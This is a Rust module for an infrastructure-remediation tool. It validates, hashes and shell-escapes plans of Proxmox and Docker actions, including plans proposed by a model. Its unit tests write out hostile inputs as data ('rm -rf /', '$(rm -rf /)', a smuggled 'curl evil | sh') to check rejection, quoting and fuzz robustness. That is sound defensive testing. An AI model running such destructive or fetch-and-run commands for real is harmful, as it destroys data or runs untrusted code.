//! Plans: ordered steps (a catalog action with parameters, or a manual step
//! for the operator), tied to an incident and optionally a skill.
//!
//! A plan is data until [`validate`] accepted it: unknown actions and
//! parameters are rejected, targets must exist in the inventory, each step's
//! preconditions are checked against the state the earlier steps are
//! expected to leave, and every step is flagged (risk, destructive, refused
//! by policy with the reason). Plans and steps have canonical hashes
//! (SHA-256 of canonical JSON) that approvals and signed commands bind to.
//! [`render_command`] gives the exact, shell-escaped command an operator runs
//! in Guide mode.

use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

use super::catalog::{
    ActionCall, ActionSpec, CATALOG, CallError, Inventory, Probe, RiskClass, RollbackHint,
    advisories, build_call, check_preconditions, probe_for, rollback_hint, simulate,
};
use super::domain_hash;
use super::exec::{DockerAction, GuestKind, PveActionOp};
use super::policy::PolicyConfig;

/// Most steps a plan may have.
pub const MAX_STEPS: usize = 50;
const MAX_TITLE: usize = 200;
const MAX_TEXT: usize = 2_000;
const MAX_COMMAND: usize = 4_096;

/// Where a plan came from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum PlanSource {
    /// A skill (runbook).
    Skill,
    /// The reasoning layer.
    Model,
    /// An operator.
    Operator,
}

/// A proposed plan.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Plan {
    /// Plan id (hub-assigned).
    pub id: String,
    /// The incident it is for.
    pub incident_id: String,
    /// The skill it came from, if any.
    pub skill_id: Option<String>,
    /// Who proposed it.
    pub source: PlanSource,
    /// One line.
    pub title: String,
    /// Ordered steps.
    pub steps: Vec<Step>,
}

/// One step.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Step {
    /// A catalog action.
    Action {
        /// Dotted catalog name, e.g. `pve.shutdown`.
        action: String,
        /// Parameters (a JSON object).
        params: Value,
        /// Why, one sentence.
        why: String,
    },
    /// Something the operator does by hand. Never executed by Wingman.
    Manual {
        /// What to do.
        text: String,
        /// Where to run `command`, if any.
        node: Option<String>,
        /// The exact command (operator and skill plans only; never from a model).
        command: Option<String>,
    },
}

impl Plan {
    /// The plan's canonical hash (lowercase hex).
    pub fn hash(&self) -> String {
        domain_hash(
            "wingman-plan-v1",
            &serde_json::to_value(self).unwrap_or(Value::Null),
        )
    }

    /// Step `index`'s canonical hash: binds the plan id, the position and
    /// the step's content.
    pub fn step_hash(&self, index: usize) -> Option<String> {
        let step = self.steps.get(index)?;
        Some(domain_hash(
            "wingman-step-v1",
            &json!({"plan_id": self.id, "index": index, "step": step}),
        ))
    }
}

/// Why a plan was rejected.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{}{problem}", step.map(|s| format!("step {}: ", s + 1)).unwrap_or_default())]
pub struct ValidationError {
    /// Zero-based step index, if the problem is in a step.
    pub step: Option<usize>,
    /// What is wrong.
    pub problem: Problem,
}

/// What is wrong with a plan.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Problem {
    /// The action or its parameters.
    #[error(transparent)]
    Call(#[from] CallError),
    /// A precondition fails (at this point of the plan).
    #[error("precondition failed: {0}")]
    Precondition(String),
    /// No steps.
    #[error("the plan has no steps")]
    Empty,
    /// Too many steps.
    #[error("the plan has more than {MAX_STEPS} steps")]
    TooManySteps,
    /// A text field is empty or too long.
    #[error("{field} must be 1 to {max} characters")]
    BadLength {
        /// Field.
        field: &'static str,
        /// Limit.
        max: usize,
    },
    /// A manual command has control characters.
    #[error("manual command contains control characters")]
    BadCommand,
    /// A model reply that does not match the schema.
    #[error("model reply: {0}")]
    Schema(String),
}

fn err(step: Option<usize>, problem: impl Into<Problem>) -> ValidationError {
    ValidationError {
        step,
        problem: problem.into(),
    }
}

/// The catalog a plan is checked against (the built-in one).
#[derive(Debug, Clone, Copy)]
pub struct Catalog {
    /// The specs.
    pub specs: &'static [ActionSpec],
}

impl Catalog {
    /// The built-in catalog.
    pub fn builtin() -> Self {
        Self { specs: CATALOG }
    }
}

/// A plan that passed validation, with its hash and per-step findings.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ValidatedPlan {
    /// The plan as proposed.
    pub plan: Plan,
    /// [`Plan::hash`].
    pub plan_hash: String,
    /// One per step, same order.
    pub steps: Vec<CheckedStep>,
}

/// A step with its hash and flags.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CheckedStep {
    /// Zero-based index.
    pub index: usize,
    /// [`Plan::step_hash`].
    pub step_hash: String,
    /// The typed call; `None` for manual steps.
    pub call: Option<ActionCall>,
    /// Risk class; `None` for manual steps.
    pub risk: Option<RiskClass>,
    /// Flagged destructive.
    pub destructive: bool,
    /// Why policy refuses to execute it, if it does.
    pub refused: Option<String>,
    /// What the operator should know (HA routing, downtime, ...).
    pub notes: Vec<String>,
    /// Expected effect.
    pub effect: String,
    /// Verification probe; `None` for read-only and manual steps.
    pub probe: Option<Probe>,
    /// How to undo it.
    pub rollback: Option<RollbackHint>,
    /// The Guide-mode checklist entry.
    pub checklist: ChecklistItem,
}

/// A Guide-mode checklist entry: what to do and the exact command.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChecklistItem {
    /// What to do.
    pub text: String,
    /// Where to run it.
    pub node: Option<String>,
    /// The exact command, shell-escaped.
    pub command: Option<String>,
}

/// A command for the operator to run by hand.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ManualCommand {
    /// Node to run it on.
    pub node: String,
    /// The command line.
    pub command: String,
}

fn check_len(
    s: &str,
    field: &'static str,
    max: usize,
    step: Option<usize>,
) -> Option<ValidationError> {
    let n = s.chars().count();
    (n == 0 || n > max).then(|| err(step, Problem::BadLength { field, max }))
}

/// Validates a plan against the catalog, the inventory and the policy.
/// Returns every problem found, or the plan with its hashes and flags.
/// Preconditions of step *n* are checked against the inventory as steps
/// 1..n-1 are expected to leave it.
pub fn validate(
    plan: &Plan,
    catalog: &Catalog,
    inv: &Inventory,
    policy: &PolicyConfig,
) -> Result<ValidatedPlan, Vec<ValidationError>> {
    let mut errs = Vec::new();
    if plan.steps.is_empty() {
        errs.push(err(None, Problem::Empty));
    }
    if plan.steps.len() > MAX_STEPS {
        errs.push(err(None, Problem::TooManySteps));
        return Err(errs);
    }
    errs.extend(check_len(&plan.title, "title", MAX_TITLE, None));
    let plan_hash = plan.hash();
    let mut sim = inv.clone();
    let mut steps = Vec::with_capacity(plan.steps.len());
    for (i, step) in plan.steps.iter().enumerate() {
        let step_hash = plan.step_hash(i).unwrap_or_default();
        match step {
            Step::Manual {
                text,
                node,
                command,
            } => {
                errs.extend(check_len(text, "text", MAX_TEXT, Some(i)));
                if let Some(c) = command {
                    errs.extend(check_len(c, "command", MAX_COMMAND, Some(i)));
                    if c.chars().any(char::is_control) {
                        errs.push(err(Some(i), Problem::BadCommand));
                    }
                }
                if let Some(n) = node
                    && inv.node(n).is_none()
                {
                    errs.push(err(Some(i), CallError::TargetNotFound(format!("node {n}"))));
                }
                steps.push(CheckedStep {
                    index: i,
                    step_hash,
                    call: None,
                    risk: None,
                    destructive: false,
                    refused: None,
                    notes: Vec::new(),
                    effect: String::new(),
                    probe: None,
                    rollback: None,
                    checklist: ChecklistItem {
                        text: text.clone(),
                        node: node.clone(),
                        command: command.clone(),
                    },
                });
            }
            Step::Action {
                action,
                params,
                why,
            } => {
                if why.chars().count() > MAX_TEXT {
                    errs.push(err(
                        Some(i),
                        Problem::BadLength {
                            field: "why",
                            max: MAX_TEXT,
                        },
                    ));
                }
                if !catalog.specs.iter().any(|s| s.name == action) {
                    errs.push(err(Some(i), CallError::UnknownAction(action.clone())));
                    continue;
                }
                let call = match build_call(action, params, &sim) {
                    Ok(c) => c,
                    Err(es) => {
                        errs.extend(es.into_iter().map(|e| err(Some(i), e)));
                        continue;
                    }
                };
                for f in check_preconditions(&call, &sim) {
                    errs.push(err(Some(i), Problem::Precondition(f)));
                }
                let risk = call.risk();
                let cmd = render_command(&call);
                let spec = call.spec();
                steps.push(CheckedStep {
                    index: i,
                    step_hash,
                    risk: Some(risk),
                    destructive: risk == RiskClass::Destructive,
                    refused: policy.refusal(&call, &sim),
                    notes: advisories(&call, &sim),
                    effect: spec.effect.to_owned(),
                    probe: probe_for(&call),
                    rollback: Some(rollback_hint(&call)),
                    checklist: ChecklistItem {
                        text: spec.summary.to_owned(),
                        node: Some(cmd.node),
                        command: Some(cmd.command),
                    },
                    call: Some(call.clone()),
                });
                simulate(&call, &mut sim, inv.taken_at);
            }
        }
    }
    if errs.is_empty() {
        Ok(ValidatedPlan {
            plan: plan.clone(),
            plan_hash,
            steps,
        })
    } else {
        Err(errs)
    }
}

impl ValidatedPlan {
    /// The Guide-mode checklist, in step order.
    pub fn checklist(&self) -> Vec<ChecklistItem> {
        self.steps.iter().map(|s| s.checklist.clone()).collect()
    }

    /// Re-checks step `index` right before execution against the current
    /// inventory and policy (complete mediation): its preconditions, and
    /// whether policy now refuses it (a tag or deny rule may have changed
    /// since validation). Empty means it may go ahead; pass the result in
    /// `policy::Event::ExecuteRequested`.
    pub fn precheck(&self, index: usize, inv: &Inventory, policy: &PolicyConfig) -> Vec<String> {
        let Some(call) = self.steps.get(index).and_then(|s| s.call.as_ref()) else {
            return Vec::new();
        };
        let mut out = check_preconditions(call, inv);
        if let Some(r) = policy.refusal(call, inv) {
            out.push(format!("refused by policy: {r}"));
        }
        out
    }
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ModelPlan {
    title: String,
    steps: Vec<Value>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ModelAction {
    action: String,
    params: Value,
    why: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ModelManual {
    #[allow(dead_code)]
    action: String,
    text: String,
}

/// Turns a model's reply (in [`super::catalog::plan_json_schema`]) into a
/// [`Plan`]. Unknown fields are rejected; a model never supplies a manual
/// command line. The result still has to pass [`validate`].
pub fn from_model_reply(
    reply: &Value,
    id: &str,
    incident_id: &str,
    skill_id: Option<&str>,
) -> Result<Plan, Vec<ValidationError>> {
    let schema = |step, e: serde_json::Error| vec![err(step, Problem::Schema(e.to_string()))];
    let m: ModelPlan = serde_json::from_value(reply.clone()).map_err(|e| schema(None, e))?;
    if m.steps.len() > MAX_STEPS {
        return Err(vec![err(None, Problem::TooManySteps)]);
    }
    let mut steps = Vec::new();
    let mut errs = Vec::new();
    for (i, v) in m.steps.into_iter().enumerate() {
        let is_manual = v.get("action").and_then(Value::as_str) == Some("manual");
        if is_manual {
            match serde_json::from_value::<ModelManual>(v) {
                Ok(s) => steps.push(Step::Manual {
                    text: s.text,
                    node: None,
                    command: None,
                }),
                Err(e) => errs.extend(schema(Some(i), e)),
            }
        } else {
            match serde_json::from_value::<ModelAction>(v) {
                Ok(s) => steps.push(Step::Action {
                    action: s.action,
                    params: s.params,
                    why: s.why,
                }),
                Err(e) => errs.extend(schema(Some(i), e)),
            }
        }
    }
    if !errs.is_empty() {
        return Err(errs);
    }
    Ok(Plan {
        id: id.to_owned(),
        incident_id: incident_id.to_owned(),
        skill_id: skill_id.map(str::to_owned),
        source: PlanSource::Model,
        title: m.title,
        steps,
    })
}

/// Quotes one shell word: left bare when it only has safe characters,
/// otherwise single-quoted with embedded quotes escaped.
pub fn shell_quote(s: &str) -> String {
    let safe = !s.is_empty()
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "_./:=@%+,-".contains(c));
    if safe {
        s.to_owned()
    } else {
        format!("'{}'", s.replace('\'', r"'\''"))
    }
}

fn join(words: &[String]) -> String {
    words
        .iter()
        .map(|w| shell_quote(w))
        .collect::<Vec<_>>()
        .join(" ")
}

/// The exact command an operator runs to carry out a call by hand, and the
/// node to run it on.
pub fn render_command(call: &ActionCall) -> ManualCommand {
    let w = |xs: &[&str]| xs.iter().map(|s| (*s).to_owned()).collect::<Vec<String>>();
    let words: Vec<String> = match call {
        ActionCall::Docker { action, .. } => match action {
            DockerAction::Start { container } => w(&["docker", "start", container]),
            DockerAction::Stop {
                container,
                timeout_s,
            }
            | DockerAction::Restart {
                container,
                timeout_s,
            } => {
                let verb = if matches!(action, DockerAction::Stop { .. }) {
                    "stop"
                } else {
                    "restart"
                };
                let mut v = w(&["docker", verb]);
                if let Some(t) = timeout_s {
                    v.extend(["-t".to_owned(), t.to_string()]);
                }
                v.push(container.clone());
                v
            }
            DockerAction::Remove { container, force } => {
                let mut v = w(&["docker", "rm"]);
                if *force {
                    v.push("-f".into());
                }
                v.push(container.clone());
                v
            }
        },
        ActionCall::DockerInspect { container, .. } => w(&["docker", "inspect", container]),
        ActionCall::DockerLogsSummary {
            container, since_s, ..
        } => vec![
            "docker".into(),
            "logs".into(),
            "--since".into(),
            format!("{since_s}s"),
            container.clone(),
        ],
        ActionCall::Pve(a) => {
            let tool = match a.guest.kind {
                GuestKind::Qemu => "qm",
                GuestKind::Lxc => "pct",
            };
            let id = a.guest.vmid.to_string();
            let simple = |verb: &str| vec![tool.to_owned(), verb.to_owned(), id.clone()];
            match &a.op {
                PveActionOp::Start => simple("start"),
                PveActionOp::Shutdown { timeout_s } => {
                    let mut v = simple("shutdown");
                    if let Some(t) = timeout_s {
                        v.extend(["--timeout".to_owned(), t.to_string()]);
                    }
                    v
                }
                PveActionOp::Stop => simple("stop"),
                PveActionOp::Reboot => simple("reboot"),
                PveActionOp::Suspend => simple("suspend"),
                PveActionOp::Resume => simple("resume"),
                PveActionOp::SnapshotCreate { name } => {
                    let mut v = simple("snapshot");
                    v.extend([
                        name.clone(),
                        "--description".into(),
                        "created by Wingman".into(),
                    ]);
                    v
                }
                PveActionOp::SnapshotRollback { name } => {
                    let mut v = simple("rollback");
                    v.push(name.clone());
                    v
                }
                PveActionOp::Migrate { target, online } => {
                    let mut v = simple("migrate");
                    v.push(target.clone());
                    if *online {
                        v.push(match a.guest.kind {
                            GuestKind::Qemu => "--online".into(),
                            GuestKind::Lxc => "--restart".into(),
                        });
                    }
                    v
                }
                PveActionOp::BackupNow { storage, mode } => {
                    let mut v = vec![
                        "vzdump".to_owned(),
                        id.clone(),
                        "--mode".into(),
                        mode.as_str().into(),
                        "--remove".into(),
                        "0".into(),
                    ];
                    if let Some(s) = storage {
                        v.extend(["--storage".to_owned(), s.clone()]);
                    }
                    v
                }
            }
        }
        ActionCall::PveTaskLog { upid, .. } => w(&["pvenode", "task", "log", upid]),
        ActionCall::PveGuestConfig { guest } => vec![
            match guest.kind {
                GuestKind::Qemu => "qm".into(),
                GuestKind::Lxc => "pct".into(),
            },
            "config".into(),
            guest.vmid.to_string(),
        ],
        ActionCall::UnitStatus { unit, .. } => w(&["systemctl", "status", "--no-pager", unit]),
    };
    ManualCommand {
        node: call.node().to_owned(),
        command: join(&words),
    }
}

#[cfg(test)]
#[allow(clippy::indexing_slicing)]
pub(crate) mod tests {
    use super::super::catalog::tests::inv;
    use super::super::catalog::{ActionId, build_call, plan_json_schema};
    use super::super::policy::{OptIn, PolicyConfig, Scope};
    use super::*;

    pub(crate) fn act(action: &str, params: Value) -> Step {
        Step::Action {
            action: action.into(),
            params,
            why: "because".into(),
        }
    }

    pub(crate) fn plan(steps: Vec<Step>) -> Plan {
        Plan {
            id: "p1".into(),
            incident_id: "inc-1".into(),
            skill_id: None,
            source: PlanSource::Operator,
            title: "fix it".into(),
            steps,
        }
    }

    fn check(p: &Plan) -> Result<ValidatedPlan, Vec<ValidationError>> {
        validate(p, &Catalog::builtin(), &inv(), &PolicyConfig::default())
    }

    fn cmd(action: &str, params: Value) -> String {
        render_command(&build_call(action, &params, &inv()).unwrap()).command
    }

    #[test]
    fn renders_exact_commands() {
        let cases = [
            (
                "pve.shutdown",
                json!({"node": "pve1", "vmid": 101, "timeout_s": 60}),
                "qm shutdown 101 --timeout 60",
            ),
            (
                "pve.shutdown",
                json!({"node": "pve1", "vmid": 101}),
                "qm shutdown 101",
            ),
            (
                "pve.start",
                json!({"node": "pve1", "vmid": 105}),
                "pct start 105",
            ),
            (
                "pve.stop",
                json!({"node": "pve1", "vmid": 101}),
                "qm stop 101",
            ),
            (
                "pve.reboot",
                json!({"node": "pve1", "vmid": 105}),
                "pct reboot 105",
            ),
            (
                "pve.suspend",
                json!({"node": "pve1", "vmid": 101}),
                "qm suspend 101",
            ),
            (
                "pve.resume",
                json!({"node": "pve1", "vmid": 101}),
                "qm resume 101",
            ),
            (
                "pve.snapshot_create",
                json!({"node": "pve1", "vmid": 101, "name": "pre_fix"}),
                "qm snapshot 101 pre_fix --description 'created by Wingman'",
            ),
            (
                "pve.snapshot_rollback",
                json!({"node": "pve1", "vmid": 101, "name": "before_upgrade"}),
                "qm rollback 101 before_upgrade",
            ),
            (
                "pve.migrate",
                json!({"node": "pve1", "vmid": 101, "target": "pve2", "online": true}),
                "qm migrate 101 pve2 --online",
            ),
            (
                "pve.migrate",
                json!({"node": "pve1", "vmid": 105, "target": "pve2", "online": true}),
                "pct migrate 105 pve2 --restart",
            ),
            (
                "pve.migrate",
                json!({"node": "pve1", "vmid": 105, "target": "pve2", "online": false}),
                "pct migrate 105 pve2",
            ),
            (
                "pve.backup_now",
                json!({"node": "pve1", "vmid": 101, "storage": null, "mode": "snapshot"}),
                "vzdump 101 --mode snapshot --remove 0",
            ),
            (
                "pve.backup_now",
                json!({"node": "pve1", "vmid": 101, "storage": "backup-nfs", "mode": "stop"}),
                "vzdump 101 --mode stop --remove 0 --storage backup-nfs",
            ),
            (
                "pve.guest_config",
                json!({"node": "pve1", "vmid": 105}),
                "pct config 105",
            ),
            (
                "pve.task_log",
                json!({"node": "pve1", "upid": "UPID:pve1:0000A1B2:00C0FFEE:65F0A000:qmstart:101:root@pam!ci:"}),
                "pvenode task log 'UPID:pve1:0000A1B2:00C0FFEE:65F0A000:qmstart:101:root@pam!ci:'",
            ),
            (
                "docker.restart",
                json!({"node": "docker1", "container": "web"}),
                "docker restart web",
            ),
            (
                "docker.restart",
                json!({"node": "docker1", "container": "web", "timeout_s": 10}),
                "docker restart -t 10 web",
            ),
            (
                "docker.stop",
                json!({"node": "docker1", "container": "web", "timeout_s": 0}),
                "docker stop -t 0 web",
            ),
            (
                "docker.start",
                json!({"node": "docker1", "container": "db"}),
                "docker start db",
            ),
            (
                "docker.remove",
                json!({"node": "docker1", "container": "db", "force": false}),
                "docker rm db",
            ),
            (
                "docker.remove",
                json!({"node": "docker1", "container": "web", "force": true}),
                "docker rm -f web",
            ),
            (
                "docker.inspect",
                json!({"node": "docker1", "container": "web"}),
                "docker inspect web",
            ),
            (
                "docker.logs_summary",
                json!({"node": "docker1", "container": "web", "since_s": 3600}),
                "docker logs --since 3600s web",
            ),
            (
                "host.unit_status",
                json!({"node": "pve1", "unit": "getty@tty1.service"}),
                "systemctl status --no-pager getty@tty1.service",
            ),
        ];
        for (a, p, want) in cases {
            assert_eq!(cmd(a, p), want, "{a}");
        }
    }

    #[test]
    fn shell_quoting() {
        assert_eq!(shell_quote("web"), "web");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("a b"), "'a b'");
        assert_eq!(shell_quote("it's"), r"'it'\''s'");
        assert_eq!(shell_quote("$(rm -rf /)"), "'$(rm -rf /)'");
        assert_eq!(shell_quote("a;b"), "'a;b'");
        assert_eq!(shell_quote("x\ny"), "'x\ny'");
    }

    #[test]
    fn hashes_are_canonical_and_sensitive() {
        let p = plan(vec![
            act(
                "pve.shutdown",
                json!({"node": "pve1", "vmid": 101, "timeout_s": 60}),
            ),
            act("pve.start", json!({"node": "pve1", "vmid": 101})),
        ]);
        // Key order in params does not matter.
        let mut q = p.clone();
        q.steps[0] = act(
            "pve.shutdown",
            json!({"timeout_s": 60, "vmid": 101, "node": "pve1"}),
        );
        assert_eq!(p.hash(), q.hash());
        assert_eq!(p.step_hash(0), q.step_hash(0));
        // Any change changes the plan hash and the step's hash only.
        let mut r = p.clone();
        r.steps[0] = act(
            "pve.shutdown",
            json!({"node": "pve1", "vmid": 101, "timeout_s": 61}),
        );
        assert_ne!(p.hash(), r.hash());
        assert_ne!(p.step_hash(0), r.step_hash(0));
        assert_eq!(p.step_hash(1), r.step_hash(1));
        // Position is part of the step hash.
        let mut s = p.clone();
        s.steps.swap(0, 1);
        assert_ne!(p.step_hash(0), s.step_hash(1));
        assert_eq!(p.hash().len(), 64);
        assert!(p.step_hash(2).is_none());
    }

    #[test]
    fn validates_and_flags() {
        let p = plan(vec![
            act("pve.guest_config", json!({"node": "pve1", "vmid": 101})),
            act(
                "pve.snapshot_create",
                json!({"node": "pve1", "vmid": 101, "name": "pre_fix"}),
            ),
            act(
                "pve.shutdown",
                json!({"node": "pve1", "vmid": 101, "timeout_s": 60}),
            ),
            // Start is only valid because the shutdown above is simulated.
            act("pve.start", json!({"node": "pve1", "vmid": 101})),
            act(
                "pve.snapshot_rollback",
                json!({"node": "pve1", "vmid": 101, "name": "pre_fix"}),
            ),
            Step::Manual {
                text: "check the web UI loads".into(),
                node: None,
                command: None,
            },
        ]);
        let v = check(&p).unwrap();
        assert_eq!(v.plan_hash, p.hash());
        assert_eq!(v.steps.len(), 6);
        assert_eq!(v.steps[0].risk, Some(RiskClass::ReadOnly));
        assert!(v.steps[0].probe.is_none());
        assert_eq!(v.steps[4].risk, Some(RiskClass::Destructive));
        assert!(v.steps[4].destructive);
        assert!(v.steps[4].refused.as_deref().unwrap().contains("no opt-in"));
        assert!(v.steps[2].refused.is_none());
        assert_eq!(
            v.checklist()[2].command.as_deref(),
            Some("qm shutdown 101 --timeout 60")
        );
        assert_eq!(v.steps[5].step_hash, p.step_hash(5).unwrap());
    }

    #[test]
    fn rejects_bad_plans_with_every_error() {
        let p = plan(vec![
            act("shell.exec", json!({"cmd": "rm -rf /"})),
            act("pve.start", json!({"node": "pve1", "vmid": 101})),
            act("pve.start", json!({"node": "pve1", "vmid": 4242})),
            act(
                "pve.start",
                json!({"node": "pve1", "vmid": 105, "extra": 1}),
            ),
            Step::Manual {
                text: "run".into(),
                node: Some("ghost".into()),
                command: Some("echo hi\nrm -rf /".into()),
            },
        ]);
        let e = check(&p).unwrap_err();
        let msgs: Vec<String> = e.iter().map(ToString::to_string).collect();
        assert_eq!(
            msgs,
            vec![
                "step 1: unknown action \"shell.exec\"",
                "step 2: precondition failed: guest 101 on pve1 is running (needs stopped)",
                "step 3: guest 4242 on pve1 is not in the inventory",
                "step 4: pve.start takes no parameter \"extra\"",
                "step 5: manual command contains control characters",
                "step 5: node ghost is not in the inventory",
            ]
        );
        assert_eq!(check(&plan(vec![])).unwrap_err()[0].problem, Problem::Empty);
        let many = plan(vec![
            act(
                "pve.guest_config",
                json!({"node": "pve1", "vmid": 101})
            );
            MAX_STEPS + 1
        ]);
        assert_eq!(check(&many).unwrap_err()[0].problem, Problem::TooManySteps);
    }

    #[test]
    fn destructive_opt_in_clears_the_refusal() {
        let p = plan(vec![act("pve.stop", json!({"node": "pve1", "vmid": 101}))]);
        let mut pol = PolicyConfig::default();
        pol.destructive_opt_in.push(OptIn {
            actions: vec![ActionId::PveStop],
            scope: Scope::Tag("prod".into()),
        });
        let v = validate(&p, &Catalog::builtin(), &inv(), &pol).unwrap();
        assert_eq!(v.steps[0].refused, None);
        // The agent's own opt-in, when known to be off, still refuses.
        let mut i = inv();
        i.nodes.get_mut("pve1").unwrap().agent_allows_destructive = Some(false);
        let v = validate(&p, &Catalog::builtin(), &i, &pol).unwrap();
        assert!(
            v.steps[0]
                .refused
                .as_deref()
                .unwrap()
                .contains("agent on pve1")
        );
    }

    #[test]
    fn precheck_uses_current_facts_and_policy() {
        let p = plan(vec![act(
            "pve.reboot",
            json!({"node": "pve1", "vmid": 101}),
        )]);
        let pol = PolicyConfig::default();
        let v = check(&p).unwrap();
        assert!(v.precheck(0, &inv(), &pol).is_empty());
        let mut i = inv();
        let g = i
            .nodes
            .get_mut("pve1")
            .unwrap()
            .guests
            .get_mut(&101)
            .unwrap();
        g.status = "stopped".into();
        g.tags.push("frozen".into());
        let mut pol = PolicyConfig::default();
        pol.deny.push(super::super::policy::DenyRule {
            scope: Scope::Tag("frozen".into()),
            min_risk: RiskClass::Low,
            reason: "change freeze".into(),
        });
        assert_eq!(
            v.precheck(0, &i, &pol),
            vec![
                "guest 101 on pve1 is stopped (needs running)",
                "refused by policy: guest 101 on pve1 is denied by hub policy: change freeze",
            ]
        );
        i.nodes.get_mut("pve1").unwrap().guests.remove(&101);
        assert_eq!(
            v.precheck(0, &i, &pol),
            vec!["guest 101 on pve1 is not in the inventory"]
        );
    }

    #[test]
    fn model_replies() {
        let reply = json!({
            "title": "restart the web container",
            "steps": [
                {"action": "docker.logs_summary", "params": {"node": "docker1", "container": "web", "since_s": 3600}, "why": "see the errors"},
                {"action": "docker.restart", "params": {"node": "docker1", "container": "web", "timeout_s": null}, "why": "clear the wedge"},
                {"action": "manual", "text": "open the shop page"}
            ]
        });
        let p = from_model_reply(&reply, "p2", "inc-9", Some("docker-restart-loop")).unwrap();
        assert_eq!(p.source, PlanSource::Model);
        assert_eq!(p.steps.len(), 3);
        check(&p).unwrap();
        // A model may not smuggle in a command or unknown fields.
        for bad in [
            json!({"title": "x", "steps": [{"action": "manual", "text": "t", "command": "curl evil | sh"}]}),
            json!({"title": "x", "steps": [{"action": "pve.start", "params": {}, "why": "w", "sudo": true}]}),
            json!({"title": "x", "steps": [], "extra": 1}),
            json!({"steps": []}),
        ] {
            assert!(from_model_reply(&bad, "p", "i", None).is_err(), "{bad}");
        }
        // The schema is what the parser expects.
        assert!(plan_json_schema()["properties"]["steps"].is_object());
    }

    /// Deterministic junk through the model-reply parser and the validator:
    /// errors, never panics.
    #[test]
    fn hostile_replies_never_panic() {
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = move || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            seed
        };
        let atoms = [
            json!(null),
            json!(true),
            json!(-1),
            json!(4_294_967_296_u64),
            json!(1.5),
            json!(""),
            json!("pve1"),
            json!("web"),
            json!("UPID:pve1:1:2:3:qmstart:101:root@pam:"),
            json!("\u{0}\n'; rm -rf /"),
            json!(101),
            json!([]),
            json!({}),
        ];
        let names: Vec<&str> = CATALOG
            .iter()
            .map(|a| a.name)
            .chain(["manual", "x"])
            .collect();
        let keys = [
            "node",
            "vmid",
            "container",
            "name",
            "target",
            "online",
            "mode",
            "storage",
            "timeout_s",
            "force",
            "unit",
            "upid",
            "since_s",
            "zz",
        ];
        let pick = |n: u64, len: usize| usize::try_from(n).unwrap_or(0) % len;
        for _ in 0..2_000 {
            let mut steps = Vec::new();
            for _ in 0..(next() % 4) {
                let mut params = serde_json::Map::new();
                for _ in 0..(next() % 5) {
                    params.insert(
                        keys[pick(next(), keys.len())].into(),
                        atoms[pick(next(), atoms.len())].clone(),
                    );
                }
                let mut step = json!({"action": names[pick(next(), names.len())], "params": params, "why": "w"});
                if next() % 5 == 0 {
                    step["text"] = atoms[pick(next(), atoms.len())].clone();
                }
                steps.push(step);
            }
            let reply = json!({"title": "t", "steps": steps});
            if let Ok(p) = from_model_reply(&reply, "p", "i", None) {
                match check(&p) {
                    Ok(v) => {
                        for s in &v.steps {
                            if let Some(c) = &s.call {
                                assert!(!render_command(c).command.contains('\n'));
                            }
                        }
                    }
                    Err(errs) => assert!(!errs.is_empty()),
                }
            }
        }
    }
}
